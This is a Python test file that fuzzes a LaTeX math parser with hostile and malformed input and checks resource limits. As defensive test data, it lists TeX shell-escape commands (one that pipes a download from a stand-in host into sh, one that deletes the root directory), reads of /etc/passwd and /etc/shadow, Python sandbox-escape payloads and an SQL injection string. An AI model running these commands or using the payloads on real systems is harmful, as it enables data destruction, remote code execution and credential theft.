"""Hostile input for the LaTeX parser: every input ends quickly in a Node or a ParseError.

Nothing here may raise another exception (IndexError, RecursionError, KeyError, ...), hang,
or evaluate anything: the parser only builds the dataclasses of derive.model.ast.
"""

from __future__ import annotations

import contextlib
from random import Random

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from derive.errors import LimitError, ParseError
from derive.limits import LIMITS
from derive.model import ast
from derive.model.ast import Node, Pow
from derive.parsing.latex import parse_latex, parse_latex_expression, split_aligned

_NODE_TYPES = tuple(
    value for value in vars(ast).values() if isinstance(value, type) and issubclass(value, Node)
)


def _count(node: object) -> int:
    """Nodes in a tree, walking the dataclass fields without recursion."""
    total, stack = 0, [node]
    while stack:
        item = stack.pop()
        if isinstance(item, Node):
            assert isinstance(item, _NODE_TYPES)
            total += 1
            stack.extend(vars(item).values())
        elif isinstance(item, tuple):
            stack.extend(item)
    return total


def outcome(text: str) -> Node | ParseError:
    """Parse `text`; only a Node or a ParseError may come out (how fast: the benchmarks)."""
    try:
        result: Node | ParseError = parse_latex(text)
    except ParseError as error:  # LimitError is a ParseError
        assert 0 <= error.column <= len(text)
        assert error.message
        result = error
    if isinstance(result, Node):
        assert _count(result) <= LIMITS.max_nodes
    return result


HOSTILE = [
    "\\input{/etc/passwd}",
    "\\include{/etc/shadow}",
    "\\write18{rm -rf /}",
    "\\immediate\\write18{curl evil.example | sh}",
    "\\def\\x{\\x}\\x",
    "\\newcommand{\\x}{\\x}\\x",
    "\\catcode`\\^^@=11",
    "\\csname x\\endcsname",
    "\\expandafter\\x\\y",
    "\\usepackage{shellesc}",
    "__import__('os').system('ls')",
    "().__class__.__bases__",
    "().__class__.__bases__[0].__subclasses__()",
    "eval('1+1')",
    'exec("import os")',
    "lambda: 0",
    "${7*7}",
    "{{7*7}}",
    "'; DROP TABLE students; --",
    "%00",
    "^^@",
    "\\left(",
    "\\right)",
    "\\left( x",
    "x \\right)",
    "\\left",
    "\\right",
    "{",
    "}",
    "{{{",
    "}}}",
    "\\begin{aligned}",
    "\\begin{aligned} a &= b",
    "\\end{aligned}",
    "\\frac{1}",
    "\\frac",
    "\\frac{",
    "\\sqrt[",
    "\\sqrt[3",
    "\\text{",
    "\\mathbb{E}_{",
    "\\mathbb{E}_{x}",
    "\\foo",
    "\\foo{bar}",
    "\\",
    "x\\",
    "\\\\\\\\\\\\",
    "x^",
    "x_",
    "^",
    "_",
    "'",
    "|",
    "||",
    "|||",
    "\\|",
    "\\left|",
    "\\left\\|",
    "x \x00 y",
    "\x00",
    "x\x08y",
    "x\x1b[31m",
    "a\u202eb",  # right-to-left override
    "a\u200fb",  # right-to-left mark
    "a\u200db",  # zero-width joiner
    "a\u200bb",  # zero-width space
    "\ufeffx = 1",  # byte-order mark
    "x = 😀",
    "👨\u200d👩\u200d👧",
    "x\u0301\u0302\u0303",
    "\u0301",
    "a\ud800b",  # lone surrogate
    "ｘ＝１",  # fullwidth
    "x = ٣",  # Arabic-Indic digit
    "\u00a0x\u00a0=\u00a01",  # no-break spaces are spaces
    "1" * 61,
    "0." + "0" * 59 + "1",
    "x" + "'" * 5000,
    "x" + "^{2}" * 3,
    "-" * 10_000 + "x",
    "(" * 19_000,
    ")" * 19_000,
    "\\left(" * 3000,
    "|" * 19_000,
    "\\|" * 9_000,
    "^" * 19_000,
    "_" * 19_000,
    "=" * 19_000,
    "a=" * 9_000 + "a",
    "x_{" * 6000 + "1" + "}" * 6000,
    "\\frac{d}{dx}" * 1500 + "f",
    "\\sum_{i=1}^{n}" * 1200 + "x",
    "\\log" * 4000 + " x",
    "\\hat" * 4000 + " x",
    "\\mathbf" * 4000 + " x",
    "f(" * 9000 + "x" + ")" * 9000,
    "\\sqrt[" * 3000 + "x",
    "\\text{" + "a" * 19_000 + "}",
    "\\text{" * 3000,
    "\\begin{aligned}" * 1000,
    "$" * 19_000,
    "%" * 19_000,
    "& & & &",
    "\\left. \\right.",
    "\\big",
    "\\bigl x",
]


@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
def test_hostile_input_ends_in_a_node_or_a_parse_error(text: str) -> None:
    outcome(text)


@pytest.mark.parametrize(
    "text",
    ["\\input{/etc/passwd}", "\\write18{rm -rf /}", "\\def\\x{\\x}\\x", "\\foo{bar}"],
)
def test_tex_primitives_are_unknown_commands(text: str) -> None:
    with pytest.raises(ParseError, match="unknown command") as info:
        parse_latex(text)
    assert info.value.column == 0


def test_python_payloads_are_refused() -> None:
    for text in ("__import__('os').system('ls')", "().__class__.__bases__"):
        assert isinstance(outcome(text), ParseError)


def test_tower_of_powers_is_not_evaluated() -> None:
    tree = outcome("9^{9^{9^{9}}}")
    assert isinstance(tree, Pow)
    tree = outcome("9^{" * 90 + "9" + "}" * 90)
    assert isinstance(tree, Pow)


@pytest.mark.parametrize(
    "text",
    [
        "{" * 100_000,
        "\\frac{" * 100_000,
        "x+" * 500_000,
        "{" * 19_000 + "x" + "}" * 19_000,
        "\\frac{" * 3_000 + "1" + "}{2}" * 3_000,
        "x^{" * 6_000 + "2" + "}" * 6_000,
        "\\left(" * 2_500 + "x" + "\\right)" * 2_500,
        "+".join(["x"] * 9_000),
    ],
    ids=[
        "brace-100k",
        "frac-100k",
        "x-plus-1MB",
        "brace-19k",
        "frac-3k",
        "pow-6k",
        "left-2.5k",
        "sum-9k",
    ],
)
def test_resource_limits(text: str) -> None:
    with pytest.raises(LimitError):
        parse_latex(text)
    outcome(text)


def test_nul_and_control_characters() -> None:
    for char in ("\x00", "\x07", "\x0b", "\x0c", "\x1b", "\x7f", "\x85"):
        with pytest.raises(ParseError, match="control character") as info:
            parse_latex(f"x + {char} y")
        assert info.value.column == 4


def test_invisible_characters_are_named() -> None:
    for char in ("\u202e", "\u200f", "\u200d", "\u200b", "\u2066"):
        with pytest.raises(ParseError, match=f"U\\+{ord(char):04X}"):
            parse_latex(f"x{char}y")


def test_split_aligned_on_hostile_blocks() -> None:
    for text in HOSTILE:
        try:
            lines = split_aligned(text)
        except ParseError:
            continue
        assert all(isinstance(line, str) and line for line in lines)
    with pytest.raises(LimitError):
        split_aligned("\\\\" * 100_000)


def test_non_string_input_is_a_type_error() -> None:
    with pytest.raises(TypeError):
        parse_latex(b"x + 1")  # type: ignore[arg-type]


# -- fuzzing -------------------------------------------------------------------------------

FUZZ = settings(
    max_examples=300,
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow],
    database=None,
)

TOKENS = [
    "x", "y", "e", "I", "E", "d", "T", "V", "a", "r", "0", "1", "2", "12", "0.5", ".", ",",
    " ", "+", "-", "*", "/", "^", "_", "'", "=", "<", ">", ":=", "!", "(", ")", "[", "]",
    "{", "}", "|", "||", "&", "\\\\", "\\|", "\\{", "\\}", "\\,", "\\ ", "~", "$", "$$",
    "\\frac", "\\dfrac", "\\sqrt", "\\left(", "\\right)", "\\left|", "\\right|",
    "\\left\\|", "\\right\\|", "\\left[", "\\right]", "\\left.", "\\bigl(", "\\bigr)",
    "\\big|", "\\lVert", "\\rVert", "\\lvert", "\\rvert", "\\cdot", "\\times", "\\odot",
    "\\pm", "\\le", "\\ge", "\\ne", "\\approx", "\\to", "\\leftarrow", "\\cdots",
    "\\sum", "\\prod", "\\sum_{i=1}^{n}", "\\nabla", "\\nabla_w", "\\partial",
    "\\partial_w", "\\frac{d}{dx}", "\\frac{\\partial L}{\\partial w}", "\\exp", "\\log",
    "\\ln", "\\tanh", "\\max", "\\min", "\\det", "\\sigma", "\\beta", "\\lambda", "\\pi",
    "\\infty", "\\ell", "\\top", "\\intercal", "\\prime", "\\star", "\\perp", "\\mathbb{E}",
    "\\mathbb{V}", "\\mathbb{R}", "\\mathrm{Var}", "\\operatorname{diag}", "\\mathrm{d}",
    "\\mathrm{ReLU}", "\\text{ as }", "\\text{Var}", "\\text{", "\\mathbf", "\\boldsymbol",
    "\\bm", "\\mathcal", "\\hat", "\\bar", "\\tilde", "\\quad", "\\qquad", "\\begin{aligned}",
    "\\end{aligned}", "\\begin{cases}", "\\foo", "\\", "oldsymbol{", "m{", "rac{", "egin{",
    "\\lambda_1", "\\lambda_{\\max}", "Var", "\x00", "\u200d", "β", "∞", "≤", "−", "😀",
    "\u0301", "%", "\n",
]  # fmt: skip


@FUZZ
@given(st.text(max_size=200))
def test_fuzz_arbitrary_text(text: str) -> None:
    outcome(text)


@FUZZ
@given(st.lists(st.sampled_from(TOKENS), max_size=40).map("".join))
def test_fuzz_latex_tokens(text: str) -> None:
    outcome(text)


@FUZZ
@given(st.lists(st.sampled_from(TOKENS), max_size=40).map("".join))
def test_fuzz_expression_and_split(text: str) -> None:
    with contextlib.suppress(ParseError):
        parse_latex_expression(text)
    try:
        lines = split_aligned(text)
    except ParseError:
        return
    for line in lines:
        outcome(line)


NESTING = ["x", "\\frac{", "{", "}", "(", ")", "^{", "_{", "\\left(", "\\right)", "\\sqrt{", "|",
           "\\|", "\\log ", "+", "-", "2"]  # fmt: skip


@FUZZ
@given(st.integers(min_value=0, max_value=2**32), st.integers(min_value=50, max_value=400))
def test_fuzz_deep_nesting(seed: int, length: int) -> None:
    # long inputs from a seeded Random: drawing 400-item lists through Hypothesis is slow
    random = Random(seed)
    outcome("".join(random.choice(NESTING) for _ in range(length)))
